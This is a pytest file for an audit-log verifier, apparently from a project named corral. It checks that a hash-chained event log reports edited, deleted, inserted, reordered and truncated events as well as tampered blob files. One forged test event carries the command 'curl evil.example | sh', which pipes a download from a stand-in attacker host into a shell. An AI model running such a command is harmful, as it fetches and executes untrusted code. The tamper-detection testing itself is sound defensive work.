"""Chain verification without a store: each kind of tampering is reported, with its text, at its position.

These tests build chains with the real hashing functions and hand the rows to `verify_rows` (the
code every store's `verify` runs) or write them to an export file for `verify_file`, so the whole
report is checked: every problem's kind, seq, position and detail, the warnings and the head.
The store-backed tests in test_verify.py tamper with real databases; these cover what they do not.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from corral.audit.blobs import BlobStore
from corral.audit.chain import Checkpoint, EventRow, canonical, chain_hash, event_hash, genesis_hash
from corral.audit.verify import VerifyReport, read_export, verify_file, verify_rows
from corral.errors import NotFound

RUN = "run-a"
LINK = "it does not link to seq {} (an earlier event was changed and rehashed, or events were moved)"
TAIL = (
    "{} events after the last checkpoint (seq {}): the run is live, "
    "crashed before its spool was recovered, or events were appended later"
)


def link(payload: dict[str, Any], prev_hash: str, **changes: Any) -> dict[str, Any]:
    """A well-formed event: its own hash right, linked to `prev_hash`. Only the chain can catch it."""
    out = {**payload, **changes, "prev_hash": prev_hash}
    out["hash"] = event_hash(out)
    return out


def chain(n: int, run_id: str = RUN, start: str | None = None, first: int = 1) -> list[dict[str, Any]]:
    prev, out = start or genesis_hash(run_id), []
    for seq in range(first, first + n):
        body = {"kind": "shell.command", "run_id": run_id, "seq": seq, "ts": f"2026-01-01T00:00:{seq:02d}Z"}
        out.append(link({**body, "command": f"echo {seq} é"}, prev))
        prev = out[-1]["hash"]
    return out


def rows(payloads: list[dict[str, Any]]) -> list[EventRow]:
    return [EventRow.from_payload(p) for p in payloads]


def cp(payload: dict[str, Any], reason: str = "interval") -> Checkpoint:
    return Checkpoint(run_id=payload["run_id"], seq=payload["seq"], hash=payload["hash"], reason=reason)  # type: ignore[arg-type]


def found(report: VerifyReport) -> list[tuple[str, int, int, str]]:
    return [(p.kind, p.seq, p.position, p.detail) for p in report.problems]


def test_an_untouched_chain_reports_its_head() -> None:
    events = chain(5)
    report = verify_rows(RUN, rows(events), [cp(events[2]), cp(events[4], "close")], strict=True)
    assert (report.ok, report.events, report.head_seq, report.checkpoints) == (True, 5, 5, 2)
    assert report.head_hash == events[4]["hash"] and report.run_id == RUN
    assert (report.problems, report.warnings, report.first) == ([], [], None)
    assert report.summary() == f"run {RUN}: chain OK, 5 events, head seq 5, 2 checkpoints"


def test_an_empty_chain_has_the_genesis_head() -> None:
    report = verify_rows(RUN, [], [], strict=True)
    assert (report.ok, report.events, report.head_seq, report.head_hash) == (True, 0, 0, genesis_hash(RUN))
    assert report.warnings == []


def test_events_after_the_last_checkpoint_warn_and_fail_strict_verification() -> None:
    events = chain(5)
    live = verify_rows(RUN, rows(events), [cp(events[2])])
    assert live.ok and live.warnings == [TAIL.format(2, 3)]
    strict = verify_rows(RUN, rows(events), [cp(events[2])], strict=True)
    assert found(strict) == [("unanchored", 4, -1, TAIL.format(2, 3))]
    assert (
        strict.summary()
        == f"run {RUN}: chain BROKEN, first problem: unanchored at seq 4: {TAIL.format(2, 3)}"
    )
    never = verify_rows(RUN, rows(events), [])
    assert never.ok and never.warnings == [TAIL.format(5, 0)]
    assert found(verify_rows(RUN, rows(events), [], strict=True)) == [
        ("unanchored", 1, -1, TAIL.format(5, 0))
    ]


def test_a_rewritten_and_rehashed_tail_is_caught_by_its_checkpoints() -> None:
    events = chain(6)
    checkpoints = [cp(events[3]), cp(events[5], "close")]
    # Someone with write access rewrites seq 4..6 and rehashes them: every link and hash is right.
    forged = events[:3] + chain(3, start=events[2]["hash"], first=4)
    forged[3] = link(forged[3], events[2]["hash"], command="echo innocent")
    forged[4] = link(forged[4], forged[3]["hash"])
    forged[5] = link(forged[5], forged[4]["hash"])
    report = verify_rows(RUN, rows(forged), checkpoints, strict=True)
    assert found(report) == [
        (
            "checkpoint",
            4,
            -1,
            f"the interval checkpoint says hash {events[3]['hash'][:12]}…, "
            f"the chain has {forged[3]['hash'][:12]}…",
        ),
        (
            "checkpoint",
            6,
            -1,
            f"the close checkpoint says hash {events[5]['hash'][:12]}…, "
            f"the chain has {forged[5]['hash'][:12]}…",
        ),
    ]
    assert not report.ok and report.head_hash == forged[5]["hash"]


def test_a_truncated_tail_is_caught_by_the_checkpoint_that_anchored_it() -> None:
    events = chain(6)
    report = verify_rows(RUN, rows(events[:4]), [cp(events[3]), cp(events[5], "close")])
    assert found(report) == [("checkpoint", 6, -1, "a close checkpoint anchors seq 6, which is missing")]
    assert report.head_seq == 4 and report.warnings == []


@pytest.mark.parametrize("data", ["not json", "[1, 2]", '"text"', '{"seq": "3"}', '{"kind": "x"}', "null"])
def test_a_malformed_row_is_reported_at_its_position(data: str) -> None:
    events = chain(5)
    stored = rows(events)
    stored[2] = EventRow(RUN, 3, "shell.command", "", events[2]["hash"], data)
    stored[4] = EventRow.from_payload(events[4], json.dumps({**events[4], "command": "edited"}))
    report = verify_rows(RUN, stored, [cp(events[4], "close")])
    assert found(report) == [
        ("malformed", 3, 2, "not an event record"),
        ("deleted", 3, 3, "gap: seq 3 missing before seq 4"),
        ("edited", 5, 4, "hash mismatch at seq 5: the event's content is not what was hashed"),
    ]


def test_a_malformed_first_row_sorts_by_position_not_by_its_index_seq() -> None:
    events = chain(4)
    stored = [EventRow(RUN, 9, "x", "", "", "garbage"), *rows(events[1:])]
    report = verify_rows(RUN, stored, [cp(events[0])])
    assert found(report) == [
        ("malformed", 9, 0, "not an event record"),
        ("deleted", 1, 1, "gap: seq 1 missing before seq 2"),
        ("checkpoint", 1, -1, "a interval checkpoint anchors seq 1, which is missing"),
    ]


def test_a_foreign_runs_event_is_an_insertion_and_the_chain_goes_on_past_it() -> None:
    ours, theirs = chain(5), chain(5, run_id="run-b")
    stored = rows([*ours[:2], theirs[2], *ours[2:]])
    report = verify_rows(RUN, stored, [cp(ours[4], "close")], strict=True)
    assert found(report) == [("inserted", 3, 2, "an event of run 'run-b' sits at seq 3 of this chain")]
    assert report.head_seq == 5 and report.head_hash == ours[4]["hash"]


def test_a_foreign_event_in_place_of_ours_leaves_a_gap() -> None:
    ours, theirs = chain(5), chain(5, run_id="run-b")
    stored = rows([*ours[:2], theirs[2], *ours[3:]])
    assert found(verify_rows(RUN, stored, [])) == [
        ("inserted", 3, 2, "an event of run 'run-b' sits at seq 3 of this chain"),
        ("deleted", 3, 3, "gap: seq 3 missing before seq 4"),
    ]


def test_a_foreign_event_ahead_of_a_late_one_of_ours_is_told_apart_from_a_gap() -> None:
    ours, theirs = chain(5), chain(5, run_id="run-b")
    stored = rows([*ours[:2], theirs[2], ours[3], ours[2], ours[4]])
    assert found(verify_rows(RUN, stored, [])) == [
        ("inserted", 3, 2, "an event of run 'run-b' sits at seq 3 of this chain"),
        ("reordered", 3, 3, "seq 4 comes before seq 3"),
        ("reordered", 3, 4, "seq 3 comes after seq 4"),
        ("reordered", 5, 5, f"prev_hash mismatch at seq 5: {LINK.format(4)}"),
    ]


def test_a_second_event_claiming_a_seq_is_an_insertion() -> None:
    events = chain(4)
    twin = link(events[1], events[0]["hash"], command="curl evil.example | sh")
    report = verify_rows(RUN, rows([*events[:2], twin, *events[2:]]), [cp(events[3])])
    assert found(report) == [("inserted", 2, 2, "a second event claims seq 2")]


@pytest.mark.parametrize(("seq", "hash_"), [(99, None), (3, "0" * 64), (99, "0" * 64)])
def test_edited_index_columns_are_reported_at_their_position(seq: int, hash_: str | None) -> None:
    events = chain(5)
    stored = rows(events)
    stored[2] = EventRow(
        RUN, seq, "shell.command", events[2]["ts"], hash_ or events[2]["hash"], stored[2].data
    )
    report = verify_rows(RUN, stored, [cp(events[4])])
    detail = f"the store's index fields (seq {seq}) disagree with the event (seq 3)"
    assert found(report) == [("edited", 3, 2, detail)]


def test_gaps_name_every_missing_seq() -> None:
    events = chain(7)
    report = verify_rows(RUN, rows([*events[:2], *events[4:]]), [cp(events[6])])
    assert found(report) == [("deleted", 3, 2, "gap: seqs 3..4 missing before seq 5")]
    one = verify_rows(RUN, rows([*events[:2], *events[3:]]), [cp(events[6])])
    assert found(one) == [("deleted", 3, 2, "gap: seq 3 missing before seq 4")]


def test_a_moved_event_is_reported_where_it_left_and_where_it_landed() -> None:
    events = chain(5)
    stored = rows([events[0], events[1], events[3], events[2], events[4]])
    report = verify_rows(RUN, stored, [cp(events[4])])
    assert found(report) == [
        ("reordered", 3, 2, "seq 4 comes before seq 3"),
        ("reordered", 3, 3, "seq 3 comes after seq 4"),
        ("reordered", 5, 4, f"prev_hash mismatch at seq 5: {LINK.format(4)}"),
    ]
    late = verify_rows(RUN, rows([events[0], events[2], events[3], events[1], events[4]]), [cp(events[4])])
    assert [(p.kind, p.seq, p.position, p.detail) for p in late.problems][1] == (
        "reordered",
        2,
        3,
        "seq 2 comes after seq 4",
    )


def test_an_event_without_a_hash_is_edited() -> None:
    events = chain(3)
    bare = {k: v for k, v in events[2].items() if k != "hash"}
    report = verify_rows(RUN, [*rows(events[:2]), EventRow.from_payload(bare)], [cp(events[1])])
    assert found(report) == [
        ("edited", 3, 2, "hash mismatch at seq 3: the event's content is not what was hashed")
    ]
    # Anchored by a checkpoint, the event's missing hash reads as empty, and so does the head.
    report = verify_rows(RUN, [*rows(events[:2]), EventRow.from_payload(bare)], [cp(events[2])])
    assert found(report)[1] == (
        "checkpoint",
        3,
        -1,
        f"the interval checkpoint says hash {events[2]['hash'][:12]}…, the chain has …",
    )
    assert report.head_hash == ""


def test_blob_side_files_are_checked(tmp_path: Path) -> None:
    blobs = BlobStore(tmp_path / "blobs")
    gone, bad = blobs.put("x" * 100), blobs.put("y" * 100)
    events = chain(4)
    events[1] = link(events[1], events[0]["hash"], output=gone)
    events[2] = link(events[2], events[1]["hash"], output={"nested": [bad]})
    events[3] = link(events[3], events[2]["hash"])
    digest = lambda ref: ref.split(":")[2]  # noqa: E731
    blobs.path(digest(gone)).unlink()
    blobs.path(digest(bad)).write_text("z" * 100)
    report = verify_rows(RUN, rows(events), [cp(events[3])], blobs=blobs)
    assert found(report) == [("blob", 3, 2, f"side file {digest(bad)} does not match its hash or size")]
    assert report.warnings == [
        f"seq 2: side file {blobs.path(digest(gone))} is missing (and not in the audit store)"
    ]
    assert verify_rows(RUN, rows(events), [cp(events[3])]).ok  # without the store, refs are just text


def export(path: Path, *lines: str) -> Path:
    path.write_text("".join(f"{line}\n" for line in lines), encoding="utf-8")
    return path


def test_an_export_file_is_read_back_row_for_row(tmp_path: Path) -> None:
    a, b = chain(3), chain(2, run_id="run-b")
    bare = {"run_id": RUN, "seq": 4}  # no kind, ts or hash
    lines = [json.dumps(p, ensure_ascii=False) for p in [a[0], b[0], a[1], a[2], b[1], bare]]
    path = export(tmp_path / "x.jsonl", lines[0], "", lines[1], lines[2], "", lines[3], lines[4], lines[5])
    path.write_text(path.read_text() + cp(a[2], "close").line() + "\n")
    runs = read_export(path)
    assert list(runs) == [RUN, "run-b"]
    assert runs[RUN][0] == [
        EventRow.from_payload(a[0], lines[0]),
        EventRow.from_payload(a[1], lines[2]),
        EventRow.from_payload(a[2], lines[3]),
        EventRow(RUN, 4, "", "", "", lines[5]),
    ]
    assert runs["run-b"][0] == [EventRow.from_payload(b[0], lines[1]), EventRow.from_payload(b[1], lines[4])]
    assert [(c.seq, c.reason) for c in runs[RUN][1]] == [(3, "close")] and runs["run-b"][1] == []


def test_verify_file_reports_every_run_and_passes_strict_and_blobs(tmp_path: Path) -> None:
    a, b = chain(3), chain(2, run_id="run-b")
    orphan = link({"kind": "x", "seq": 1}, genesis_hash(""))  # a record that names no run
    no_seq = {k: v for k, v in a[2].items() if k != "seq"}
    lines = [json.dumps(p) for p in [*a[:2], no_seq, *b]] + [cp(a[1]).line(), json.dumps(orphan)]
    path = export(tmp_path / "x.jsonl", *lines)
    reports = {r.run_id: r for r in verify_file(path)}
    assert list(reports) == [RUN, "run-b", ""]
    assert found(reports[RUN]) == [("malformed", -1, 2, "not an event record")]
    assert reports["run-b"].ok and reports["run-b"].warnings == [TAIL.format(2, 0)]
    assert found(reports[""]) == [("inserted", 1, 0, "an event of run None sits at seq 1 of this chain")]
    strict = {r.run_id: r for r in verify_file(path, strict=True)}
    assert found(strict["run-b"]) == [("unanchored", 1, -1, TAIL.format(2, 0))]

    blobs = BlobStore(tmp_path / "blobs")
    ref = blobs.put("side" * 50)
    with_blob = [link(a[0], genesis_hash(RUN), output=ref)]
    blobs.path(ref.split(":")[2]).write_text("tampered" * 25)
    path = export(tmp_path / "blob.jsonl", json.dumps(with_blob[0]), cp(with_blob[0]).line())
    [report] = verify_file(path, blobs=blobs)
    assert [p.kind for p in report.problems] == ["blob"]
    [report] = verify_file(path)
    assert report.ok


def test_unreadable_export_files_are_refused_with_the_line(tmp_path: Path) -> None:
    missing = tmp_path / "none.jsonl"
    with pytest.raises(NotFound) as err:
        read_export(missing)
    assert str(err.value) == (
        f"export file {missing} does not exist\n  hint: write one with `corral audit export RUN`"
    )
    events = chain(2)
    path = export(tmp_path / "bad.jsonl", json.dumps(events[0]), json.dumps(events[1]), "{not json")
    with pytest.raises(NotFound) as err:
        verify_file(path)
    assert str(err.value) == f"{path}:3 is not JSON\n  hint: export files hold one JSON record a line"
    path = export(tmp_path / "junk.jsonl", json.dumps(events[0]) + "XX")  # junk after the record
    with pytest.raises(NotFound, match=":1 is not JSON"):
        read_export(path)


def test_event_rows_carry_the_index_fields_of_their_payload() -> None:
    [event] = chain(1)
    row = EventRow.from_payload(event)
    assert (row.run_id, row.seq, row.kind, row.ts, row.hash) == (
        RUN,
        1,
        "shell.command",
        event["ts"],
        event["hash"],
    )
    assert row.data == json.dumps(event, separators=(",", ":"), ensure_ascii=False) and "é" in row.data
    assert row.payload() == event
    assert EventRow.from_payload(event, "kept as stored").data == "kept as stored"
    bare = EventRow.from_payload({"run_id": 7, "seq": "3", "kind": "k"})
    assert (bare.run_id, bare.seq, bare.ts, bare.hash) == ("7", 3, "", "")
    with pytest.raises(ValueError, match=r"^event run-a#1 is not a JSON object$"):
        EventRow(RUN, 1, "k", "", "", "[1]").payload()


def test_an_event_without_prev_hash_hashes_as_if_it_were_empty() -> None:
    payload = {"run_id": RUN, "seq": 1, "kind": "k"}
    assert event_hash(payload) == chain_hash("", canonical(payload))
    assert event_hash(payload) == event_hash({**payload, "hash": "anything"})  # its own hash is not hashed
